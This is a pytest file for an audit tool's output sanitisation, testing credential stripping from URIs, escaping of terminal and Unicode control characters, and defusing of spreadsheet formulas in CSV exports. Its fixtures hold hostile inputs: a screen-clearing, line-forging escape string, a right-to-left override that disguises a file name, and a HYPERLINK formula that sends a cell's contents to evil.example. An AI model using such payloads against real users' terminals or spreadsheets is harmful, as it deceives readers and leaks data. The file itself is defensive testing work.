"""What the auditor's outputs show of text they did not write (``serving.audit.safe_text``):
tracking URIs without their password, terminal text without control sequences, CSV cells a
spreadsheet will not evaluate. Decisions are minimal stored ones; no registry is asked."""

from __future__ import annotations

import csv
import io
import json

import pytest

from features.errors import ParcelriskError
from serving.audit.safe_text import csv_cell, display_uri, terminal_safe
from serving.sqlite_store import SqliteDecisionStore
from tests.test_serving.conftest import run_cli, stored_decision

SECRET = "S3cretToken"
TRACKING = f"http://alice:{SECRET}@127.0.0.1:5051"
# clears the screen, homes the cursor, retitles the window, forges a line, reverses the rest
HOSTILE_ID = "C-ID\x1b[2J\x1b[1;1H\x1b]0;pwned\x07chain intact\r\n\u202eevil"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PERIOD = ["--from", "2000-01-01", "--to", "2100-01-01"]
RAW_CONTROLS = ("\x1b", "\x07", "\r", "\u202e")


@pytest.mark.parametrize(
    ("uri", "shown"),
    [
        (TRACKING, "http://127.0.0.1:5051"),
        ("https://token@mlflow.example/prefix/", "https://mlflow.example/prefix/"),
        ("postgresql://u:p/w@db:5432/mlflow?password=pw", "postgresql://db:5432/mlflow"),
        ("http://a:b@c@host:1/#/experiments/1", "http://host:1/#/experiments/1"),
        ("sqlite:///mlflow.db", "sqlite:///mlflow.db"),
        ("file:///home/me@corp/mlruns", "file:///home/me@corp/mlruns"),
        ("mlruns", "mlruns"),
    ],
)
def test_display_uri_drops_the_user_and_password(uri, shown) -> None:
    assert display_uri(uri) == shown


def test_run_links_carry_no_credentials() -> None:
    from serving.audit.models import run_url
    from serving.auditor.model_evidence import web_link

    url = run_url(TRACKING + "/", "3", "abc")
    assert url == "http://127.0.0.1:5051/#/experiments/3/runs/abc"
    assert web_link(f"{TRACKING}/#/experiments/3/runs/abc") == url
    assert web_link("runs:/abc") is None


@pytest.mark.parametrize("template", ["decision", "model"])
def test_the_pages_show_the_tracking_uri_through_display_uri(template) -> None:
    from serving.auditor.templates import environment

    env = environment()
    source = env.loader.get_source(env, template)[0]
    assert "tracking_uri" in source and "{{ tracking_uri }}" not in source
    shown = env.from_string("{{ u|display_uri }}").render(u="postgresql://u:pw@db/mlflow")
    assert shown == "postgresql://db/mlflow"


def test_terminal_safe_escapes_controls_newlines_and_bidi() -> None:
    assert terminal_safe(HOSTILE_ID) == (
        "C-ID\\x1b[2J\\x1b[1;1H\\x1b]0;pwned\\x07chain intact\\x0d\\x0a\\u202eevil"
    )
    assert terminal_safe("caf\u00e9 \u4e2d \\x1b") == "caf\u00e9 \u4e2d \\x1b"
    assert terminal_safe("\x85\x9f\u200e\u2066\x7f") == "\\x85\\x9f\\u200e\\u2066\\x7f"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        (-5.0, -5.0),
        (None, None),
    ],
)
def test_csv_cell_defuses_formulas_only_in_text(value, cell) -> None:
    assert csv_cell(value) == cell


@pytest.fixture
def hostile_store(tmp_path, monkeypatch):
    """A store of two decisions (a hostile declaration id, a formula in the description); the
    registry refuses every version without being asked (so no network)."""
    from serving.audit.models import RecordedModels

    def refuse(self, name, version, *recorded):
        raise ParcelriskError(f"{name} v{version}: not in this registry")

    monkeypatch.setattr(RecordedModels, "_load", refuse)
    db = tmp_path / "audit.db"
    store = SqliteDecisionStore(db)
    try:
        store.record(
            [
                stored_decision({"declaration_id": HOSTILE_ID, "description": HOSTILE_ID}),
                stored_decision(
                    {"declaration_id": "C-2", "description": FORMULA},
                    decision_id=FORMULA,
                    risk=0.2,
                ),
            ]
        )
    finally:
        store.close()
    return db


def test_show_hides_the_tracking_password_and_escapes_the_declaration(
    hostile_store, capsys
) -> None:
    decision_id = f"dec-{HOSTILE_ID}"
    code, out, err = run_cli(
        capsys, "audit", "show", decision_id, "--db", str(hostile_store), "--tracking-uri", TRACKING
    )
    assert code == 0, err
    assert SECRET not in out and "alice" not in out
    assert "(tracking http://127.0.0.1:5051)" in out
    assert not any(c in out for c in RAW_CONTROLS)
    assert "chain intact" not in out.splitlines()[-1] and "\\x1b[2J" in out
    assert [line for line in out.splitlines() if line.startswith("chain ")] == [
        "chain         intact"
    ]


def test_show_json_keeps_the_values_exact_and_hides_the_password(hostile_store, capsys) -> None:
    decision_id = f"dec-{HOSTILE_ID}"
    code, out, err = run_cli(
        capsys, "audit", "show", decision_id, "--json", "--db", str(hostile_store),
        "--tracking-uri", TRACKING,
    )  # fmt: skip
    body = json.loads(out)
    assert code == 0, err
    assert body["declaration_id"] == HOSTILE_ID and "\x1b" not in out
    assert body["model"]["tracking_uri"] == "http://127.0.0.1:5051" and SECRET not in out


def test_list_table_escapes_every_value(hostile_store, capsys) -> None:
    code, out, err = run_cli(capsys, "audit", "list", *PERIOD, "--db", str(hostile_store))
    assert code == 0, err
    assert not any(c in out for c in RAW_CONTROLS)
    assert len(out.splitlines()) == 3  # the header and one line per decision
    assert "C-ID\\x1b[2J" in out


def test_list_json_keeps_the_values_exact(hostile_store, capsys) -> None:
    code, out, err = run_cli(
        capsys, "audit", "list", *PERIOD, "--format", "json", "--db", str(hostile_store)
    )
    assert code == 0, err
    assert "\x1b" not in out
    assert {r["declaration_id"] for r in json.loads(out)} == {HOSTILE_ID, "C-2"}


def _csv_rows(text: str) -> dict[str, dict[str, str]]:
    return {r["declaration_id"]: r for r in csv.DictReader(io.StringIO(text))}


def test_list_csv_defuses_a_formula_and_keeps_the_numbers(hostile_store, capsys) -> None:
    code, out, err = run_cli(
        capsys, "audit", "list", *PERIOD, "--format", "csv", "--db", str(hostile_store)
    )
    assert code == 0, err
    row = _csv_rows(out)["C-2"]
    assert row["decision_id"] == "'" + FORMULA and float(row["risk"]) == 0.2


def test_export_csv_defuses_a_formula(hostile_store, capsys, tmp_path) -> None:
    out_csv = tmp_path / "report.csv"
    code, _, err = run_cli(
        capsys, "audit", "export", *PERIOD, "--format", "csv", "--out", str(out_csv),
        "--db", str(hostile_store),
    )  # fmt: skip
    assert code == 0, err
    rows = _csv_rows(out_csv.read_text())
    assert rows["C-2"]["decision_id"] == "'" + FORMULA
    assert not any(cell.startswith("=") for r in rows.values() for cell in r.values())


def test_lanes_show_escapes_the_operator_s_reason(capsys, monkeypatch) -> None:
    import models.registry
    import serving.lanes_cli

    history = {
        "model": {"name": "parcel-risk", "version": "1", "run_id": "r1"},
        "in_force": "t2",
        "history": [
            {"version": "t1", "set_by": "training"},
            {"version": "t2", "set_at": "2026-05-01T00:00:00Z", "set_by": "ops",
             "reason": "more staff\x1b[2J\nforged line"},
        ],
        "warnings": [],
    }  # fmt: skip
    monkeypatch.setattr(models.registry, "require_tracking_store", lambda uri: "sqlite:///x")
    monkeypatch.setattr(models.registry, "registry_client", lambda uri: None)
    monkeypatch.setattr(serving.lanes_cli, "lane_history", lambda client, settings: history)
    code, out, err = run_cli(capsys, "lanes", "show")
    assert code == 0, err
    assert "reason: more staff\\x1b[2J\\x0aforged line" in out
    assert "\x1b" not in out and len(out.splitlines()) == 3


def test_pages_show_invisible_and_reordering_characters_as_escapes() -> None:
    """A description's right-to-left override reordered what the auditor read on the page
    ("invoice\\u202eexe.fdp" shown as "invoicepdf.exe") while `audit show` escaped it (probe);
    a zero-width space hid inside a word. Line breaks stay; the charts' SVG stays markup."""
    import markupsafe

    from serving.audit.safe_text import page_safe
    from serving.auditor.templates import render

    page = render("message", heading="h", message="invoice \u202eexe.fdp\u202c zero\u200bwidth")
    assert "\u202e" not in page and "\u200b" not in page
    assert "invoice \\u202eexe.fdp\\u202c zero\\u200bwidth" in page
    assert page_safe("two\nlines\tand\x07bell") == "two\nlines\tand\\x07bell"
    svg = markupsafe.Markup("<svg><text>a</text></svg>")
    assert "<svg><text>a</text></svg>" in render("message", heading="h", message=svg)


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("S\u00adSPLITB", "S\\xadSPLITB"),  # soft hyphen
        ("SSPLIT\u061cB", "SSPLIT\\u061cB"),  # Arabic letter mark (bidi)
        ("S\u034fSPLITB", "S\\u034fSPLITB"),  # combining grapheme joiner
        ("SSPLITB\u3164", "SSPLITB\\u3164"),  # Hangul filler
        ("SSPLITB\U000e0041", "SSPLITB\\U000e0041"),  # a tag letter: 8 digits, unambiguous
    ],
)
def test_every_mark_unicode_renders_as_nothing_is_shown_as_an_escape(sent, shown) -> None:
    """Probe 20: the page and the terminal escaped a hand-written list, so a look-alike seller
    ("S<soft hyphen>SPLITB") read as "SSPLITB" to the auditor. Unicode's own set now."""
    from serving.audit.safe_text import page_safe

    assert page_safe(sent) == shown and terminal_safe(sent) == shown


def test_a_page_to_date_means_that_whole_day_as_the_commands_read_it() -> None:
    """to=2026-12-05 listed nothing for a day `audit list --to 2026-12-05` listed (probe)."""
    from serving.audit.report import parse_when
    from serving.auditor.query import utc_time_to

    assert utc_time_to("2026-12-05") == parse_when("2026-12-05", "--to", end_of_day=True)
    assert utc_time_to("2026-12-05") == "2026-12-06T00:00:00.000000Z"
    assert utc_time_to("2026-12-05T10:00") == "2026-12-05T10:00:00.000000Z"
